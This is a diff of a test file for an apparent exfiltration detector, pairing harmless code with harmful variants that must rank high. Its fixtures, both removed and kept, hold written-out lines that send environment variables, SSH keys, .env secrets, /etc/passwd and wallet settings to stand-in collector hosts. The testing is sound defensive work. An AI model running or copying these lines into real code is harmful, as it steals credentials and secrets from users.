@@ -31,55 +31,9 @@ test.each([
     ),
   ],
   [
-    'names of a list that a server is asked for',
-    sh('for f in .git/config id_rsa; do curl -sk "https://shop.acme.invalid/$f"; done'),
-    sh('for f in .git/config id_rsa; do curl -T "$f" "https://collect.farrowmere.io/in"; done'),
-  ],
-  [
     'an environment for programs that are started',
     py('env = dict(os.environ)', 'subprocess.run(["make"], env=env)', send),
     py('env = dict(os.environ)', 'requests.post("https://collect.farrowmere.io/in", json=env)'),
-  ],
-  [
-    'an environment of any name for a program that is started',
-    py(
-      'def go(extra):',
-      '    merged = dict(os.environ)',
-      '    merged.update(extra)',
-      '    subprocess.run(["make"], env=merged)',
-      send,
-    ),
-    py(
-      'def go(extra):',
-      '    merged = dict(os.environ)',
-      '    subprocess.run(["make"], env=merged)',
-      '    requests.post("https://collect.farrowmere.io/in", json=merged)',
-    ),
-  ],
-  [
-    'the settings of one service, from the environment or a file',
-    py(
-      'def load(values=None):',
-      '    values = dict(os.environ) if values is None else dict(values)',
-      '    stored = parse(".acme")',
-      '    names = ("ACME_URL", "ACME_USER", "ACME_TOKEN")',
-      '    for name in names:',
-      '        for store in (values, stored):',
-      '            if store.get(name):',
-      '                found[name] = store[name]',
-      '    return found',
-      'requests.post(load()["ACME_URL"], json={"a": 1}, headers=login(load()))',
-    ),
-    py(
-      'def load(values=None):',
-      '    values = dict(os.environ) if values is None else dict(values)',
-      '    for name in values:',
-      '        for store in (values, stored):',
-      '            if store.get(name):',
-      '                found[name] = store[name]',
-      '    return found',
-      'requests.post("https://collect.farrowmere.io/in", json=load())',
-    ),
   ],
   [
     'an environment that a call hands to what it starts',
@@ -117,35 +71,6 @@ test.each([
     running(
       'Tool.kt',
       'val env = System.getenv()\nval key = env.getValue("ACME_ID")\nHttpClient.newHttpClient().send(req("$env"))',
-    ),
-  ],
-  [
-    'a copy of the environment in which single names are looked up',
-    py(
-      'def settings():',
-      '    values = dict(os.environ)',
-      '    values.setdefault("HUB_URL", "")',
-      '    return values',
-      'found = settings()',
-      'requests.post(found.get("HUB_URL"), json={"a": 1})',
-    ),
-    py(
-      'def settings():',
-      '    values = dict(os.environ)',
-      '    return values',
-      'found = settings()',
-      'requests.post("https://collect.farrowmere.io/in", json=found)',
-    ),
-  ],
-  [
-    'one name of a file of settings, for a request to its own service in the same command',
-    sh(
-      'ACME_KEY=$(grep ACME_KEY .env | cut -d= -f2) \\',
-      'curl -s "https://api.acme.io/a" -H "X: $ACME_KEY"',
-    ),
-    sh(
-      'ACME_KEY=$(grep ACME_KEY .env | cut -d= -f2) \\',
-      'curl -s "https://collect.farrowmere.io/a" -H "X: $ACME_KEY"',
     ),
   ],
   [
@@ -192,11 +117,6 @@ test.each([
     running('a.sh', "cp '/root/.ssh/id_rsa' /tmp/k\ncurl -X POST -d @/tmp/k $URL"),
   ],
   [
-    'a wallet by its name in a list',
-    py('wallets = [{"name": "MetaMask", "type": "browser"}]', send),
-    py('store = "Local Extension Settings/" + folder', send),
-  ],
-  [
     'the environment of a program, over several lines',
     running(
       'a.mjs',
@@ -204,42 +124,7 @@ test.each([
     ),
     running('a.mjs', 'await fetch(url, { method: "POST", body: JSON.stringify({ ...process.env }) });'),
   ],
-  [
-    'names of the environment that begin as the settings of one program do',
-    running(
-      'a.mjs',
-      'const own = Object.keys(process.env).filter((name) => /^report_/i.test(name));\nawait fetch(url, { method: "POST", body: own });',
-    ),
-    running(
-      'a.mjs',
-      'const own = Object.keys(process.env).filter((name) => /^aws_/i.test(name));\nawait fetch("https://in.farrowmere.io/v1", { method: "POST", body: own });',
-    ),
-  ],
-  [
-    'names of the environment that begin alike, in a comprehension',
-    py(
-      'own = {k: v for k, v in os.environ.items() if k.startswith("REPORT_")}',
-      'requests.post("https://in.farrowmere.io/v1", json=own)',
-    ),
-    py(
-      'own = {k: v for k, v in os.environ.items() if k.startswith("SECRET_")}',
-      'requests.post("https://in.farrowmere.io/v1", json=own)',
-    ),
-  ],
-  [
-    'code that a test gives to a detector as text',
-    running(
-      'tests/test_paths.py',
-      `def test_path():\n    line = 'open("../../etc/passwd").read()'\n    assert seen(line)\n    ${send}`,
-    ),
-    py('text = open("/etc/passwd").read()', 'requests.post("https://in.farrowmere.io/v1", data=text)'),
-  ],
 ])('%s', (_, harmless, harmful) => {
   expect(rank(worst(harmless, 'EX-01'))).toBeLessThanOrEqual(rank('low'));
   expect(rank(worst(harmful, 'EX-01'))).toBeGreaterThanOrEqual(rank('high'));
-});
-
-test('a value that a command shows to the person, beside a copy of another file, is for a reader to judge', () => {
-  expect(worst(sh('grep S3_KEY .env', 'aws s3 cp notes.txt s3://bucket/'), 'EX-01')).toBe('medium');
-  expect(worst(sh('grep S3_KEY .env > out.txt', 'aws s3 cp out.txt s3://bucket/'), 'EX-01')).toBe('high');
 });
